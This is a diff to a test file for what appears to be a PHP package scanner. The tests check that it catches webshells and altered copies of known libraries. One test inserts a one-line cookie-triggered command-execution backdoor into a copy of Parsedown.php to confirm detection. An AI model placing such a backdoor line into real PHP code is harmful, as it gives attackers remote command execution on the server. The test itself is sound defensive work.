@@ -1,4 +1,6 @@
+import { zipSync } from 'fflate';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { corpusZip, loadCorpus } from '../../../../tests/fixtures/webshells/corpus';
 import {
   DEBIAN_PHP,
   debianRelease,
@@ -116,4 +118,35 @@ describe('the real clean corpus', () => {
     expect(found.map((c) => c.key)).toContain('scan.evalInput');
     expect(found.filter((c) => c.params?.file !== `vendor/php-twig/${target}`)).toEqual([]);
   });
+
+  it('finds a changed copy of a known file carried alone, by its name and lines', () => {
+    const parsedown = releases.find((r) => r.name === 'php-parsedown')!;
+    const file = parsedown.files.find((f) => f.path.endsWith('/Parsedown.php'))!;
+    const lines = new TextDecoder().decode(file.bytes).split('\n');
+    lines.splice(100, 0, 'if (isset($_COOKIE["k"])) { @system($_COOKIE["k"]); }');
+    const zip = zipSync({
+      'Demo.php': enc('<?php\nclass Demo { public function run() { return 1; } }\n'),
+      'info.ini': enc('name=demo\n'),
+      'lib/markdown/Parsedown.php': enc(lines.join('\n')),
+    });
+    expect(holds(zip, known)).toContainEqual(
+      expect.objectContaining({
+        key: 'scan.modifiedKnown',
+        params: expect.objectContaining({
+          file: 'lib/markdown/Parsedown.php',
+          library: 'php-parsedown',
+          lines: '101',
+        }),
+      }),
+    );
+  });
+
+  it('leaves the crafted corpus as it was with every release known: every shape held, every twin let through', () => {
+    const wrong: string[] = [];
+    for (const item of loadCorpus()) {
+      const held = validatePackage(corpusZip(item), 'demo.zip', item.kind, known).held;
+      if (held !== item.held) wrong.push(`${item.held ? 'held' : 'clean'}/${item.id}`);
+    }
+    expect(wrong).toEqual([]);
+  }, 120_000);
 });
